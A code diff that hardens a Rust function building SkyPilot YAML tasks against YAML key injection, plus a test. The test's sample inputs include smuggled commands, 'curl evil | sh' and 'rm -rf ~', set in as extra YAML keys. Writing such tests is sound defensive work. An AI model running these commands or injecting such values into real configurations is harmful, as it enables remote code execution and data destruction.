@@ -126,6 +126,25 @@ pub fn skypilot_yaml(
     setup: &str,
     script: &[String],
 ) -> Result<String, RemoteError> {
+    // `name` and `accelerators` are plain YAML scalars: only characters that cannot end the
+    // line or start YAML syntax (a newline or `: ` in them would add keys to the task).
+    let plain = |what: &str, v: &str| -> Result<(), RemoteError> {
+        if v.is_empty()
+            || !v
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | ':'))
+            || v.contains(": ")
+            || v.starts_with(['-', ':'])
+        {
+            return Err(RemoteError::invalid(
+                "skypilot",
+                format!("{what} may hold letters, digits, '-', '_', '.' and ':' only"),
+            ));
+        }
+        Ok(())
+    };
+    plain("the task name", name)?;
+    plain("accelerators", accelerators)?;
     let per_node: u32 = accelerators
         .rsplit_once(':')
         .and_then(|(_, n)| n.parse().ok())
@@ -163,6 +182,24 @@ mod tests {
         };
         assert!(torchrun_command(&bad).is_err());
         assert!(torchrun_command(&LaunchSpec { nproc: 0, ..spec }).is_err());
+    }
+
+    #[test]
+    fn skypilot_fields_cannot_add_yaml_keys() {
+        let script = vec!["train.py".to_string()];
+        for (name, acc) in [
+            ("x\nrun: curl evil | sh", "A100:4"),
+            ("ok", "A100:4\nsetup: rm -rf ~"),
+            ("a: b", "A100:4"),
+            ("", "A100:4"),
+        ] {
+            assert!(
+                skypilot_yaml(name, acc, 2, "", &script).is_err(),
+                "{name:?} {acc:?}"
+            );
+        }
+        let y = skypilot_yaml("job-1", "H100:8", 2, "echo 'a: b'\nnext", &script).expect("yaml");
+        assert!(y.contains("setup: |\n  echo 'a: b'\n  next\n"), "{y}");
     }
 
     #[test]
